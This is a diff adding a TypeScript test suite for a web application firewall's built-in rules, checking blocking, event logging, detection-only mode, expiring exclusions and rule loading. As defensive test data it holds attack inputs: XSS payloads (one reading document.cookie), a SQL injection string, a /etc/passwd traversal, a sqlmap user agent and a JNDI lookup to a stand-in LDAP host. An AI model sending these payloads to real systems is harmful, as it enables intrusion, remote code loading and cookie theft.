@@ -1,0 +1,125 @@
+import assert from "node:assert/strict";
+import { describe, test } from "node:test";
+import { builtinRules } from "@holdfast/waf";
+import type { Dialect } from "../../src/edge/index.ts";
+import type { Inspection } from "../../src/firewall/index.ts";
+import { createInspection } from "../../src/firewall/inspection.ts";
+import { formatId } from "../../src/kit/index.ts";
+import type { RequestRules } from "../../src/model/plan.ts";
+import { converse, statuses, testEdge } from "./fixture.ts";
+
+const ACCOUNT = new Uint8Array(16).fill(7);
+const route = { method: "GET", needs: "public", body: "none", reads: false, handle: async () => ({ status: 200, body: "{}" }) } as const;
+const DECLARED: Dialect = {
+  prefix: "/data",
+  values: "declared",
+  routes: [{ ...route, name: "data.read", path: "/data/:name" }],
+  words: ({ code }) => JSON.stringify({ code }),
+};
+const FREE: Dialect = { ...DECLARED, prefix: "/pages" };
+const FREE_ROUTES: Dialect = {
+  prefix: "/pages",
+  routes: [{ ...route, name: "pages", path: "/pages/:name" }],
+  words: FREE.words,
+};
+
+function rules(plan: Partial<RequestRules> = {}): Inspection {
+  return createInspection({
+    rules: builtinRules(),
+    plan: { mode: "on", paranoia: 1, exclusions: [], ...plan },
+    now: Date.now,
+    newId: () => crypto.getRandomValues(new Uint8Array(16)),
+  });
+}
+
+const asked = (target: string, more = ""): string => `GET ${target} HTTP/1.1\r\nHost: localhost\r\n${more}\r\n`;
+const SCRIPT = "?q=%3Cscript%3Ealert(1)%3C/script%3E";
+
+/** What is sent, and how it is answered where the route declares its values and where it does not. */
+const REQUESTS: readonly (readonly [what: string, target: string, header: string, declared: number, free: number])[] = [
+  [
+    "an ordinary request",
+    "/x",
+    "User-Agent: Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101\r\nAccept-Language: ko-KR,ko;q=0.9\r\n",
+    200,
+    200,
+  ],
+  ["an ordinary question", "/x?q=what+is+a+table%3F", "", 200, 200],
+  ["script in a value", `/x${SCRIPT}`, "", 200, 403],
+  ["SQL in a value", "/x?id=1%27%20OR%201=1--%20", "", 200, 403],
+  ["a file of the system in a value", "/x?file=../../../../etc/passwd", "", 200, 403],
+  ["a scanner", "/x", "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n", 403, 403],
+  ["a lookup in a header", "/x", `X-Api-Version: \${jndi:ldap://a.example/x}\r\n`, 403, 403],
+  ["script in the address of the page before", "/x", "Referer: https://a.example/?a=<script>alert(document.cookie)</script>\r\n", 403, 403],
+];
+
+describe("Holdfast, with the firewall's rules,", { concurrency: 4 }, () => {
+  for (const [what, target, header, declared, free] of REQUESTS) {
+    test(`answers ${what} with ${free}, and with ${declared} where values are data`, async () => {
+      const inspection = rules();
+      await using served = await testEdge({ dialects: [DECLARED, FREE_ROUTES], needs: { inspection: () => inspection } });
+      // Twice, since what was clean is remembered.
+      for (let round = 0; round < 2; round += 1) {
+        const heard = await converse(served.edge.port, asked(`/data${target}`, header) + asked(`/pages${target}`, header), 300);
+        assert.deepEqual(statuses(heard), [declared, free], heard);
+      }
+      const blocked = served.events.filter(({ kind }) => kind === "request.blocked").length;
+      assert.equal(blocked, 2 * [declared, free].filter((status) => status === 403).length);
+    });
+  }
+
+  test("looks at addresses that lead nowhere, too", async () => {
+    const inspection = rules();
+    await using served = await testEdge({ needs: { inspection: () => inspection } });
+    assert.deepEqual(statuses(await converse(served.edge.port, asked("/nowhere") + asked(`/nowhere${SCRIPT}`), 300)), [404, 403]);
+  });
+
+  test("records who was blocked, for what and where, and says no more than a quotable id", async () => {
+    const inspection = rules();
+    const whoIs = async () => ({ kind: "account", id: ACCOUNT, sessionId: ACCOUNT, roles: [], aal: 1 }) as never;
+    await using served = await testEdge({ dialects: [FREE_ROUTES], whoIs, needs: { inspection: () => inspection } });
+    const heard = await converse(served.edge.port, asked(`/pages/x${SCRIPT}`, "Authorization: Bearer a.b.c\r\n"), 300);
+    const [event, ...more] = served.events.filter(({ kind }) => kind === "request.blocked");
+    assert.ok(event?.kind === "request.blocked" && more.length === 0);
+    const { rule, route: where, score, account, act, request } = event;
+    assert.deepEqual([where, account.value, act], ["pages", formatId(ACCOUNT), "block"]);
+    assert.match(rule, /^\d+(,\d+)*$/);
+    assert.ok(score >= 5, String(score));
+    assert.equal(/x-request-id: (\S+)/.exec(heard)?.[1], request);
+    assert.match(heard, /\{"code":"firewall.refused"\}$/);
+    assert.ok(!heard.includes(rule.split(",")[0] ?? rule));
+  });
+
+  test("only records what it would have blocked, where that is asked for", async () => {
+    const inspection = rules({ mode: "detection-only" });
+    await using served = await testEdge({ dialects: [FREE_ROUTES], needs: { inspection: () => inspection } });
+    assert.deepEqual(statuses(await converse(served.edge.port, asked(`/pages/x${SCRIPT}`), 300)), [200]);
+    assert.deepEqual(
+      served.events.flatMap((event) => (event.kind === "request.blocked" ? [event.act] : [])),
+      ["let through"],
+    );
+  });
+
+  test("leaves out rules where somebody has said why, for as long as they said", async () => {
+    const exclusion = { rules: "tag:attack-xss", route: "/pages/x", target: undefined, reason: "a course on HTML", owner: "Kim" };
+    for (const [expiresAt, status] of [
+      [Date.now() + 60_000, 200],
+      [Date.now() - 60_000, 403],
+    ] as const) {
+      const inspection = rules({ exclusions: [{ ...exclusion, expiresAt }] });
+      await using served = await testEdge({ dialects: [FREE_ROUTES], needs: { inspection: () => inspection } });
+      const heard = await converse(served.edge.port, asked(`/pages/x${SCRIPT}`) + asked(`/pages/y${SCRIPT}`), 300);
+      assert.deepEqual(statuses(heard), [status, 403], heard);
+    }
+  });
+
+  test("lets requests wait until the rules are there, and answers nobody where they cannot be loaded", async () => {
+    const loading = Promise.withResolvers<Inspection>();
+    await using served = await testEdge({ dialects: [FREE_ROUTES], needs: { inspection: () => loading.promise } });
+    const waiting = converse(served.edge.port, asked(`/pages/x${SCRIPT}`), 600);
+    setTimeout(() => loading.resolve(rules()), 100);
+    assert.deepEqual(statuses(await waiting), [403]);
+    await using broken = await testEdge({ dialects: [FREE_ROUTES], needs: { inspection: () => Promise.reject(new Error("no rules")) } });
+    assert.deepEqual(statuses(await converse(broken.edge.port, asked("/pages/x"), 300)), [500]);
+  });
+});
